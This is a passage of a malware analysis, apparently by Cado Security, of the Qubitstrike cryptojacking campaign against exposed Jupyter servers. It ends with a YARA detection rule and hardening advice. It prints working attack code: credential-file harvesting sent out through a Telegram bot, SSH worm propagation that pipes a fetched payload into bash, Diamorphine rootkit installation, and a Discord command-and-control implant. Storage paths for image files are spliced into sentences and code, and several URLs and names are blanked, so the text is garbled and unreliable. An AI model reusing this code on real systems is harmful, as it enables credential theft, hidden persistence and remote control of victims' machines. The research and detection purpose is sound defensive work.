    zurl --silent --insecure --datachat_id="5531196733" --data "disable_notification=false" --data "parse_mode=html" --data "text=${DATA_STRING}" "" >/dev/null 2>&1 || curl --silent --insecure --data chat_id="5531196733" --data "disable_notification=false" --data "parse_mode=html" --data "text=${DATA_STRING}" "" >/dev/null 2>&1

    CRED_FILE_NAMES=("credentials" "cloud" ".s3cfg" ".passwd-s3fs" "authinfo2" ".s3backer_passwd" ".s3b_config" "s3proxy.conf" \
    "access_tokens.db" "credentials.db" ".smbclient.conf" ".smbcredentials" ".samba_credentials" ".pgpass" "secrets" ".boto" \
    ".netrc" ".git-credentials" "api_key" "censys.cfg" "ngrok.yml" "filezilla.xml" "recentservers.xml" "queue.sqlite3" "servlist.conf""accounts.xml" "azure.json" "kube-env")
    for CREFILE in ${CRED_FILE_NAMES[@]}; do
    find / -maxdepth 23 -type f -name $CREFILE 2>/dev/null | xargs -I % sh -c 'echo :::%; cat %' >> /tmp/creds
    SECRETS="$(cat /tmp/creds)"
    zurl --silent --insecure --data chat_id="5531196733" --data "disable_notification=false" --data "parse_mode=html" --data "text=${SECRETS}" "" >/dev/null 2>&1 || curl --silent --insecure --data chat_id="5531196733" --data "disable_notification=false" --data "parse_mode=html" --data "text=${SECRETS}" "" >/dev/null 2>&1
    cat /tmp/creds
    rm /tmp/creds

    Enumerating credential files and exfiltrating them via Telegram

    Inspection of this Telegram integration revealed a bot named Data_stealer which was connected to a private chat with a user named z4r0u1. Cado researchers assess with high confidence that the malware transmits the collection of the credentials files to this Telegram bot where their contents are automatically displayed in a private chat with the z4r0u1 user.

    @z4r0u1 Telegram user profile

    SSH PropagationSimilar to other cryptojacking campaigns, Qubitstrike attempts to propagate in a worm-like fashion to related hosts. It achieves this by using a regular expression to enumerate IPs in the SSH known_hosts file in a loop, before issuing a command to retrieve a copy of and piping it through bash on each discovered host.

    ssh_local() {
    if [ -f /root/.ssh/known_hosts ] && [ -f /root/.ssh/ ]; then
    for h in $(grep -oE "\b([0-9]{1,3}\.){3}[0-9]{1,3}\b" /root/.ssh/known_hosts); do ssh -oBatchMode=yes -oConnectTimeout=5 -oStrictHostKeyChecking=no $h '$req | bash >/dev/null 2>&1 &' & done

    SSH propagation commands

    This ensures that the primary payload is executed acrossmultiple hosts, using their collective processing power for the benefit of the mining operation.

    Diamorphine Rootkit

    Another notable feature of Qubitstrike is the deployment of the Diamorphine LKM rootkit, used to hide the attacker’s malicious processes. The rootkit itself is delivered as a base64-encoded tarball which is unpacked and compiled directly on the host. This results in a Linux kernel module, which is then loadable via the insmod command.

    hide1() {
    hidf='H4sIAAAAAAAAA+0ba3PbNjJfxV+BKq2HVGRbshW1jerMuLLi6PyQR7bb3ORyGJqEJJ4oksOHE7f1/fbbBcE35FeTXnvH/RBTwGJ3sdgXHjEtfeX63sJy2J <truncated>
    echo $hidf|base64 -d > $DIR/hf.tar
    tar -xf $DIR/hf.tar -C $DIR/
    cd $DIR
    proc="$(ps aux | grep -v grep | grep 'python-dev' | awk '{print $2}')"
    if [ -f "$DIR/diamorphine.ko" ] ; then
    insmod diamorphine.ko
    echo "Hiding process ( python-dev ) pid ( $proc )"
    kill -31 $proc
    rm -rf $DIR/diamorphine*
    rm $DIR/Make*
    rm -f $DIR/hf.tar

    Insmod method of installing Diamorphine

    The attackers also provide a failover option to cover situations where the insmod method is unsuccessful. Rather than unpacking and installing a kernel module, they instead compile the Diamorphine source to produce a Linux Shared Object file and use the LD Preload technique to register it with the dynamic linker. This results in it being executed whenever a new executable is launched on the system.

    hide2() {
    hidf='I2RlZmluZSBfR05VX1NPVVJDRQoKI2luY2x1ZGUgPHN0ZGlvLmg+CiNpbmNsdWRlIDxkbGZjbi5oPgojaW5jb <truncated>
    echo $hidf | base64 -d > $DIR/prochid.c
    sed -i 's/procname/python-dev/g' $DIR/prochid.c
    chattr -ia /etc/ /usr/local/lib/ >/dev/null 2>&1
    gcc -Wall -fPIC -shared -o /usr/local/lib/$DIR/prochid.c -ldl
    echo /usr/local/lib/ > /etc/
    if [ -f /usr/local/lib/ ] ; then
    chattr +i /usr/local/lib/
    chattr +i /etc/
    rm -f /etc/

    Installing Diamorphine via the LD Preload method

    Diamorphine is well-known in Linux malware circles, with the rootkit being observed in campaigns from TeamTNT and, more recently, Kiss-a-dog. Compiling the malware on delivery is common and is used to evade EDRs and other detection mechanisms.

    Credential Access

    As mentioned earlier, the sample searches the file system for credentials files and exfiltrates them over Telegram. Shortly after receiving an alert that our bait AWS credentials file was accessed on thehoneypot machine, we were alerted that the actor had attempted to use the credentials.

    The user agent shows that the system running the command is Kali Linux, which matches up with the account name in the embedded SSH key from The IP is a residential IP in Bizerte, Tunisia (although the attacker also used an IP located in Tunis). It is possible this is due to the use of a residential proxy, however it could also be possible that this is the attacker’s home IP address or a local mobile network.

    In this case, the attacker tried to fetch the IAM role of the canary token via the AWS command line utility. They then likely realised it was a canary token, as we receivedno further alerts of its use.

    Discord C2

    Exploring the Codeberg repository, a number of other scripts were discovered, one of which is This python script is an implant/agent, designed to be executed on compromised hosts,and uses a Discord bot as a C2. It does this by embedding a Discord token within the script itself, which is then passed into the popular Discord bot client library,

    Using Discord as aC2 isn’t uncommon, large amounts of malware will abuse developer-friendly features such as webhooks and bots. This is due to the ease of access and use of these features (taking seconds to spin up a fresh account and making a bot) as well as familiarity with the platforms themselves. Using SaaS platforms like Discord also make C2 traffic harder to identify in networks, as traffic to SaaS platforms is usually ubiquitous and may pose challenges to sort through.

    Interestingly, the author opted to store this token in an encoded form, specifically Base64 encoded, then Base32 encoded, and then further encoded using ROT13. This is likely an attempt to prevent third parties from reading the script andretrieving the token. However, as the script contains the code to decode it (before passing it to, it is trivial to reverse.

    # decrypt api
    token = codecs.decode(token, 'rot13')
    token = base64.b32decode(token)
    token = base64.b64decode(token)
    token = token.decode('ascii')

    Example of Python decoding multiple encoding mechanisms

    As is likely unavailable on the compromised systems, the README for the repository contains a one-liner that converts the python script into a self contained executable, as seen below:

    <code lang="bash" class="language-bash">mkdir -p /usr/share/games/.2928 ; D=/usr/share/games/.2928 ; wget -O $D/ ; pip install Discord ; pip install pyinstaller ; cd $D ; pyinstaller --onefile --clean --name kdfs ; mv /dist/kdfs kdfs</code>

    Once is executed on a host, it will drop a message in a hardcoded channel, stating a randomly generated ID of the host, and the OS the host is running (derived from /etc/os-release). The bot then registers a number of commands that allow the operator to interact with the implant. As each implant runs the same bot, each command uses the randomly generated ID of the host to determine which implant a specific commandis directed at. It also checks the ID of the user sending the command matches a hardcoded user ID of the operator.

    async def cmd(ctx):
    # Only allow commands from authorized users
    if await auth(ctx):
    elif client_id in ctx.message.content:
    # Strips chars preceeding command from command string
    command = str(ctx.message.content)[(len(client_id) + 6):]
    ret = f"[!] Executing on `{client_id}` ({client_ip})!\n```shell\n{client_user}$ {command}\n\n{os.popen(command).read()}```"
    await ctx.send(ret)

    There is also support for executing a command on all nodes (no client ID check), but interestingly this feature does not include authentication, so anyone with access to the bot channel can run commands.The implant also makes use of Discord for data exfiltration, permitting files to be both uploaded and downloaded via Discord attachments. Using SaaS platforms for data exfiltration is growing more common, as traffic to such websites is difficult to track and ubiquitous, allowing threat actors to bypass network defences easier.

    async def upload(ctx):
    # Only allow commands from authorized users
    if await auth(ctx):
    elif ctx.message.attachments:
    url = str(ctx.message.attachments[0])
    os.popen(f"wget -q {url}").read()
    path = os.popen('pwd').read().strip()
    await ctx.send(f'[!] Uploaded attachment to `{path+"/"+ctx.message.attachments[0].filename}` on client: `{client_id}`.')
    await ctx.send('[!] No attachment provided.')

    async def download(ctx):
    # Only allow commands from authorized users
    if await auth(ctx):
    file_path = str(ctx.message.content)[(len(client_id) + 11):]
    file_size = int((os.popen(f"du {file_path}" + " | awk '{print $1}'")).read())
    if file_size > 3900:
    await ctx.send(f'[!] The requested file ({file_size} bytes) exceeds the Discord API upload capacity (3900) bytes.')
    awaitctx.send(file=Discord.File(rf'{file_path}'))

    As mentioned earlier, the Discord token is directly embedded in the script. This allows us to look at the Discord server itself and observe the attacker interacting with the implants. The name of the server used is “NETShadow”, and the channel the bot posts to is “victims”. The server also had another channel titled “ssh” however it was empty.

    All of the channels were made at the exact same time on September 2nd 2023, suggesting that the creation process was automated. The bot’s username is Qubitstrike (hence the name we chose to give to the malware) and the operator’s pseudonym is “BlackSUN”. 17 unique IP addresses were observed in the channel.

    Example Qubitstrike output displayed in Discord

    It is unclear what the relation between and is. It would appear that the operator first deploys and then uses the implant to deploy, however on Cado’s honeypot, was never deployed, only was.


    Qubitstrike is a relatively sophisticated malware campaign, spearheaded by attackers with a particular focus on exploitation of cloud services. Jupyter Notebooks are commonly deployed in cloud environments, with providers such as Google and AWS offering them as managed services. Furthermore, the primary payload for this campaign specifically targets credential files for these providers and Cado’s use of canary tokens demonstrates that further compromise of cloud resources is an objective of this campaign.

    Of course, the primary objective of Qubitstrike appears to be resource hijacking for the purpose of mining the XMRig cryptocurrency. Despite this, analysis of the Discord C2 infrastructure shows that, in reality, any conceivable attack could be carried out by theoperators after gaining access to these vulnerable hosts.

    Cado urges readers with Jupyter Notebook deployments to review the security of the Jupyter servers themselves, paying particular attention to firewall and security group configurations. Ideally, the notebooks shouldn’t be exposed to the public internet. If you require them to be exposed, ensure that you have enabled authentication for them.

    YARA Rule

    rule Miner_Linux_Qubitstrike {description = "Detects Qubitstrike primary payload ("
    author = ""
    date = "2023-10-10"
    attack = "T1496"
    license = "Apache License 2.0"
    hash1 = "9a5f6318a395600637bd98e83d2aea787353207ed7792ec9911b775b79443dcd"
    $const1 = "miner_url="
    $const2 = "miner_name="
    $const3 = "killer_url="
    $const4 = "kill_url2="

    $creds = "\"credentials\" \"cloud\" \".s3cfg\" \".passwd-s3fs\" \"authinfo2\" \".s3backer_passwd\" \".s3b_config\" \"s3proxy.conf\""

    $log1 = "Begin disable security"$log2 = "Begin proccess kill"
    $log3 = "setup hugepages"
    $log4 = "SSH setup"
    $log5 = "Get Data && sent stats"

    $diam1 = "H4sIAAAAAAAAA+0ba3PbNjJfxV+BKq2HVGRbshW1jerMuLLi6PyQR7bb3ORyGJqEJJ4oksOHE7f1"
    $diam2 ="I2RlZmluZSBfR05VX1NPVVJDRQoKI2luY2x1ZGUgPHN0ZGlvLmg"

    $wallet = "49qQh9VMzdJTP1XA2yPDSx1QbYkDFupydE5AJAA3jQKTh3xUYVyutg28k2PtZGx8z3P2SS7VWKMQUb9Q4WjZ3jdmHPjoJRo"
    3 of ($const*) and
    $creds and
    3 of ($log*) and
    all of ($diam*) and

    Indicators of Compromise

